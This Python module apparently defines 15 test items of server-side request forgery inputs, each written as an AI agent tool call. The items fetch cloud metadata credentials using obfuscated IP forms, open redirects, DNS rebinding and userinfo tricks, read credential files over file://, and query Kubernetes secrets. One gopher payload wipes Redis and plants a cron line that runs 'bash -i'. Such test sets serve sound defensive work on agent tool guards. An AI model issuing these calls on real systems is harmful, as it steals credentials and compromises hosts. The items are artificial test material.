"""Server-side request forgery (15)."""
from common import it

PAT = "PayloadsAllTheThings, Server Side Request Forgery"
HT = "HackTricks, SSRF cloud metadata"


def items():
    L = []
    L.append(it("AWS metadata IAM credentials path on 169.254.169.254",
                HT + " (AWS IMDSv1)", "http.fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "method": "GET"}))
    L.append(it("metadata IP written as a single decimal integer",
                PAT + " (decimal IP)", "http.fetch", {"url": "http://2852039166/latest/user-data"}))
    L.append(it("metadata IP written in dotted hex",
                PAT + " (hex IP)", "browser.get_page_text", {"url": "http://0xa9.0xfe.0xa9.0xfe/computeMetadata/v1/instance/service-accounts/default/token", "headers": {"Metadata-Flavor": "Google"}}))
    L.append(it("IPv6-mapped IPv4 form of the metadata address",
                PAT + " (IPv6 mapped)", "http.fetch", {"url": "http://[::ffff:a9fe:a9fe]/latest/api/token", "method": "PUT", "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}}))
    L.append(it("octal dotted form of metadata IP in a webhook callback",
                PAT + " (octal IP)", "crm.update_note", {"account_id": "ACC-900", "webhook_url": "http://0251.0376.0251.0376/metadata/instance?api-version=2021-02-01", "note": "send deal updates here"}))
    L.append(it("Azure IMDS with Metadata:true header for managed identity token",
                HT + " (Azure IMDS)", "http.fetch", {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "headers": {"Metadata": "true"}}))
    L.append(it("open redirect on a trusted domain bouncing to the metadata service",
                PAT + " (open redirect chaining)", "http.fetch", {"url": "https://accounts.ourco.io/logout?next=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"}))
    L.append(it("DNS rebinding hostname that resolves alternately to public IP and 127.0.0.1",
                "Tavis Ormandy rbndr.us DNS rebinding service", "http.fetch", {"url": "http://7f000001.c0a80001.rbndr.us:8500/v1/agent/self"}))
    L.append(it("wildcard DNS service name resolving to internal 10.x address",
                PAT + " (nip.io)", "browser.get_page_text", {"url": "http://10.0.12.5.nip.io:9200/_cat/indices?v"}))
    L.append(it("gopher scheme smuggling Redis commands to localhost",
                "Gopherus (tarunkant) Redis gopher payload", "http.fetch", {"url": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0A%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A"}))
    L.append(it("dict scheme probing memcached stats on an internal host",
                PAT + " (dict://)", "http.fetch", {"url": "dict://cache-01.internal:11211/stats"}))
    L.append(it("file scheme read of local credentials through a URL preview tool",
                PAT + " (file://)", "kb.ingest", {"collection": "link-previews", "source_url": "file:///home/app/.docker/config.json"}))
    L.append(it("internal Kubernetes API hostname through a fetch tool",
                "own design after SSRF to kube-apiserver", "http.fetch", {"url": "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets", "headers": {"Authorization": "Bearer "}}))
    L.append(it("userinfo @ confusion making the real host the loopback admin port",
                "Orange Tsai, 'A New Era of SSRF' (Black Hat 2017)", "http.fetch", {"url": "http://status.ourco.io@127.0.0.1:2375/containers/json"}))
    L.append(it("shortened zero-IP and Alibaba metadata address in an image import",
                HT + " (Alibaba Cloud, 0 host)", "repo.write_file", {"path": "content/post.md", "content": "![chart](http://100.100.100.200/latest/meta-data/ram/security-credentials/)\n![local](http://0:8080/actuator/env)\n"}))
    return L
